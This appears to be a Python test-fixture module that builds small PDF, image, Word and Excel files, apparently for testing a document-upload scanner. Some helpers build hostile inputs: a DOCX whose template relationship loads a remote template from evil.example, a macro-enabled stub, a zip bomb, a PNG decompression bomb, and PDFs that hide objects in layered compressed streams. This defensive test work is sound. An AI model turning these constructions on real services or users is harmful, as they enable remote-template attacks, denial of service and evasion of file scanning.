"""Real, minimal files built in the tests: no binary fixtures in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()  # lets tests write HEIC photos

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = "application/vnd.openxmlformats-package.relationships+xml"
OFFICE_DOCUMENT = ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                   "officeDocument")


def pdf(body: bytes = b"", *, trailer_extra: bytes = b"") -> bytes:
    """A small valid PDF with one page; ``body`` adds objects (numbered from 4)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, obj))
    out.write(body)
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, trailer_extra, xref))
    return out.getvalue()


def pdf_stream_object(number: int, dictionary: bytes, data: bytes) -> bytes:
    return (b"%d 0 obj\n<< %s /Length %d >>\nstream\n" % (number, dictionary, len(data))
            + data + b"\nendstream\nendobj\n")


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF whose object 5 lives compressed in an object stream (as PDF 1.5+ writers do)."""
    header = b"5 0 "
    data = zlib.compress(header + hidden)
    stream = pdf_stream_object(
        4, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), data)
    return pdf(stream)


def pdf_objects(*extra: bytes, catalog: bytes = b"", page: bytes = b"",
                version: bytes = b"1.7") -> bytes:
    """A one-page PDF whose every object is in its cross-reference table, as a PDF reader
    sees it: the catalog (1) and the page (3) with ``catalog`` and ``page`` added to their
    dictionaries, and ``extra`` objects (each a dictionary or a whole ``<<...>> stream ...
    endstream``) numbered from 4."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b">>",
        *extra,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, obj))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


def pdf_stream(dictionary: bytes, data: bytes, *, flate: bool = False) -> bytes:
    """A stream object's text for ``pdf_objects``, its data Flate-compressed if asked."""
    if flate:
        data, dictionary = zlib.compress(data), dictionary + b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def pdf_with_compressed_objects(*objects: bytes, catalog: bytes = b"", flate_layers: int = 1,
                                hex_encoded: bool = False, padding: int = 0) -> bytes:
    """A PDF 1.5 whose ``objects`` (numbered from 4) live in one object stream, compressed
    with Flate ``flate_layers`` times over (``/Filter [/FlateDecode /FlateDecode]``: legal,
    and no longer readable by inflating once), then written in hex if asked, and followed
    by ``padding`` spaces, listed by a cross-reference stream. The padding is compressed a
    megabyte at a time, so a stream that inflates to gigabytes never sits in memory here."""
    offsets, body = [], b""
    for obj in objects:
        offsets.append(len(body))
        body += obj + b"\n"
    head = b" ".join(b"%d %d" % (4 + index, offset) for index, offset in enumerate(offsets))
    head += b"\n"
    data = head + body + b" " * padding if not flate_layers else b""
    if flate_layers:
        compressor = zlib.compressobj(9)
        data = compressor.compress(head + body)
        spaces = b" " * (1024 * 1024)
        for start in range(0, padding, len(spaces)):
            data += compressor.compress(spaces[:padding - start])
        data += compressor.flush()
    for _ in range(flate_layers - 1):
        data = zlib.compress(data, 9)
    filters = [b"/FlateDecode"] * flate_layers
    if hex_encoded:
        data, filters = data.hex().encode() + b">", [b"/ASCIIHexDecode", *filters]
    filters = b"[" + b" ".join(filters) + b"]"
    stream_number = 4 + len(objects)
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    for number, obj in enumerate(plain, start=1):
        rows.append(b"\x01" + struct.pack(">I", out.tell()) + bytes(2))
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, obj))
    rows += [b"\x02" + struct.pack(">IH", stream_number, index) for index in range(len(objects))]
    rows.append(b"\x01" + struct.pack(">I", out.tell()) + bytes(2))
    out.write(b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n"
              % (stream_number, len(objects), len(head), filters, len(data))
              + data + b"\nendstream\nendobj\n")
    xref = out.tell()
    rows.append(b"\x01" + struct.pack(">I", xref) + bytes(2))
    table = b"".join(rows)
    out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n"
              b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
              % (stream_number + 1, stream_number + 2, len(table), table, xref))
    return out.getvalue()


def compressed(document: bytes) -> bytes:
    """The same PDF saved again by the PDF library as PDF 1.5+ writers save: every
    dictionary it can move inside compressed object streams, every stream Flate-compressed,
    so none of its names can be read in the file's bytes."""
    with pikepdf.open(io.BytesIO(document)) as parsed:
        out = io.BytesIO()
        parsed.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate,
                    compress_streams=True, stream_decode_level=pikepdf.StreamDecodeLevel.none)
        return out.getvalue()


def image(kind: str, size: tuple[int, int] = (64, 48), *, mode: str = "RGB",
          colour=(200, 30, 30), **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, format=kind, **save)
    return out.getvalue()


def png(**save) -> bytes:
    return image("PNG", **save)


def jpeg(**save) -> bytes:
    return image("JPEG", **save)


def _content_types(main_part: str, main_type: str, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="{RELS}"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    )


def _root_rels(main_part: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" Target="{main_part}"/>'
        '</Relationships>'
    )


def ooxml(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


WORD_NAMESPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
FIRE_RISK = "<w:p><w:r><w:t>Fire risk assessment</w:t></w:r></w:p>"


def word_part(body: str = FIRE_RISK, root: str = "document") -> str:
    """A WordprocessingML part (``document``, ``hdr``, ``ftr``...) holding ``body``."""
    inner = f"<w:body>{body}</w:body>" if root == "document" else body
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<w:{root} xmlns:w="{WORD_NAMESPACE}">{inner}</w:{root}>')


def docx_parts(main_type: str = WORD_MAIN, body: str = FIRE_RISK) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": _content_types("word/document.xml", main_type),
        "_rels/.rels": _root_rels("word/document.xml"),
        "word/document.xml": word_part(body),
    }


def docx(body: str = FIRE_RISK, **extra: str | bytes) -> bytes:
    return ooxml({**docx_parts(body=body), **extra})


EXCEL_NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DBS_CELL = '<c r="A1" t="inlineStr"><is><t>DBS</t></is></c>'


def xlsx_parts(cells: str = DBS_CELL, *, main_type: str = EXCEL_MAIN, workbook: str = "",
               sheet: str = "") -> dict[str, str | bytes]:
    """A one-sheet workbook: ``cells`` in its first row, ``workbook`` after its sheets (e.g.
    defined names), ``sheet`` after the sheet's data (e.g. conditional formatting)."""
    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    return {
        "[Content_Types].xml": _content_types(
            "xl/workbook.xml", main_type,
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sheet_type}"/>'),
        "_rels/.rels": _root_rels("xl/workbook.xml"),
        "xl/workbook.xml": (
            f'<workbook xmlns="{EXCEL_NAMESPACE}" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            f'<sheets><sheet name="Staff" sheetId="1" r:id="rId1"/></sheets>{workbook}'
            "</workbook>"),
        "xl/_rels/workbook.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'),
        "xl/worksheets/sheet1.xml": (
            f'<worksheet xmlns="{EXCEL_NAMESPACE}">'
            f'<sheetData><row r="1">{cells}</row></sheetData>{sheet}</worksheet>'),
    }


def xlsx(cells: str = DBS_CELL, *, workbook: str = "", sheet: str = "",
         **extra: str | bytes) -> bytes:
    return ooxml({**xlsx_parts(cells, workbook=workbook, sheet=sheet), **extra})


def docm() -> bytes:
    return ooxml({**docx_parts(WORD_MACRO_MAIN), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"})


def template_injection_docx() -> bytes:
    return docx(**{"word/_rels/settings.xml.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>')})


def write_zip_bomb(path, megabytes: int = 200) -> None:
    """A DOCX-shaped zip with one member of ``megabytes`` MB of zeros (about 0.1% of that
    on disk), written in 1 MB pieces so it never sits in memory."""
    zeros = bytes(1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in docx_parts().items():
            archive.writestr(name, data)
        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(zeros)


def huge_png(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of ``width`` x ``height`` pixels that is tiny on disk: a
    decompression bomb. Built chunk by chunk so the pixels never exist in memory."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    row = bytes(1 + (width + 7) // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat)
            + chunk(b"IEND", b""))
